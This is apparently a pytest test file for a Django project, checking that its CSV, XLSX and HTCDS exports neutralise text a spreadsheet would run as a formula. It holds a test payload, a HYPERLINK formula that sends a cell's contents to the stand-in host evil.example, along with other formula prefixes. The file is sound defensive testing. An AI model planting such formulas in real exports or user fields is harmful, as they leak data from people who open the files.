"""Every CSV and XLSX that insight writes neutralises text a spreadsheet would run as a formula
(saphan/core/spreadsheets.py): the chart and report tables, and the HTCDS export."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from saphan.insight.tables import to_csv, to_xlsx
from saphan.insight.tests.world import make_world
from saphan.orgs.models import Agency

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"ดูรายละเอียด")'


def test_tables_as_csv_and_xlsx_keep_formulas_as_text():
    rows = [[EVIL, 5], ["+1+1", -3], ["@SUM(A1)", 0], ["\tx", None], ["ขอนแก่น", 12]]
    cells = [
        c
        for r in csv.reader(io.StringIO(to_csv(["ชื่อ", "จำนวน"], rows).decode("utf-8-sig")))
        for c in r
    ]
    assert "'" + EVIL in cells and "'+1+1" in cells and "'@SUM(A1)" in cells and "'\tx" in cells
    assert "-3" in cells and "ขอนแก่น" in cells  # numbers and plain text unchanged
    sheet = load_workbook(io.BytesIO(to_xlsx([("ตาราง", ["ชื่อ", "จำนวน"], rows, [EVIL])]))).active
    values = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in values)
    assert [c.value for c in values].count("'" + EVIL) == 2  # the row and the note
    assert -3 in [c.value for c in values]


@pytest.mark.django_db
def test_the_htcds_export_neutralises_an_agency_name(tmp_path):
    make_world(n_cases=6, seed=5)
    agency = Agency.objects.order_by("code").first()
    agency.name_en = EVIL
    agency.save()
    call_command("export_htcds", "--out", str(tmp_path), "--user", "central")
    with open(tmp_path / "organization.csv", encoding="utf-8", newline="") as f:
        names = [row["org_Name"] for row in csv.DictReader(f)]
    assert "'" + EVIL in names and EVIL not in names
